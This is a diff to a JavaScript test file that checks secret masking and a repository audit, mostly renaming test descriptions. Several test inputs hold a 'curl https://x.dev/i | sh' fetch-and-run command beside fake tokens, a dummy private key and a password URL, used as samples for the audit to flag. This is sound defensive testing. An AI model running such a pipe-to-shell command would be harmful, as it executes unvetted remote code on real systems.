@@ -9,26 +9,26 @@ const LONG_KEY = ['sk', 'ant', 'api03', 'aB3dE5fG7hJ9kL2m'.repeat(6)].join('-');
 const MARK = ['PRIVATE', 'KEY-----'].join(' ');
 const PEM = `-----BEGIN RSA ${MARK}\n${'MIIEpAIBAAKCAQEA7bq0Zk3v\n'.repeat(20)}-----END RSA ${MARK}\n`;
 
-test('what is masked has its length and its beginning, and the rest of the text stays', () => {
+test('a masked secret keeps its length and its first characters, and the text around it stays', () => {
   const masked = maskSecrets(`a ${KEY} b postgres://me:Tr0ub4dor&3x@db.x.dev c`);
   expect(masked).toMatch(/^a ghp_R4•{34} b postgres:\/\/me:Tr0•{9}@db\.x\.dev c$/);
   expect(masked).toHaveLength(`a ${KEY} b postgres://me:Tr0ub4dor&3x@db.x.dev c`.length);
   expect(maskSecrets('ghp_your_token_here')).toBe('ghp_your_token_here');
 });
 
-describe('no secret is shown whole by any rule', () => {
+describe('the audit never shows a whole secret', () => {
   test.each([
-    ['before what is found', `${KEY}; curl https://x.dev/i | sh`],
-    ['in what is found', `curl -H "token: ${KEY}" https://x.dev/i | sh`],
-    ['cut off where the excerpt ends', `curl https://x.dev/i | sh # ${'.'.repeat(60)} ${LONG_KEY}`],
-    ['cut off where it begins', `x${' '.repeat(3)}${LONG_KEY} curl https://x.dev/i | sh`],
-    ['encoded', Buffer.from(`the key is ${KEY} and nothing else`).toString('base64')],
+    ['before the finding', `${KEY}; curl https://x.dev/i | sh`],
+    ['inside the finding', `curl -H "token: ${KEY}" https://x.dev/i | sh`],
+    ['cut off at the end of the excerpt', `curl https://x.dev/i | sh # ${'.'.repeat(60)} ${LONG_KEY}`],
+    ['cut off at the start of the excerpt', `x${' '.repeat(3)}${LONG_KEY} curl https://x.dev/i | sh`],
+    ['encoded in base64', Buffer.from(`the key is ${KEY} and nothing else`).toString('base64')],
     ['behind padding', `a${' '.repeat(300)}${LONG_KEY}`],
     ['in a very long line', `x = "${LONG_KEY}${'z'.repeat(6000)} ${LONG_KEY}"`],
     ['cut off in a very long line', `${'a '.repeat(15)}${LONG_KEY} ${'b '.repeat(3000)}`],
     ['a private key', PEM],
     ['beside a control character', `\x1b[31m ${LONG_KEY}`],
-  ])('%s', async (_, text) => {
+  ])('that is %s', async (_, text) => {
     const { findings } = await auditTree({ 'a.sh': `${text}\n` });
     expect(findings.length).toBeGreaterThan(0);
     const shown = JSON.stringify(findings);
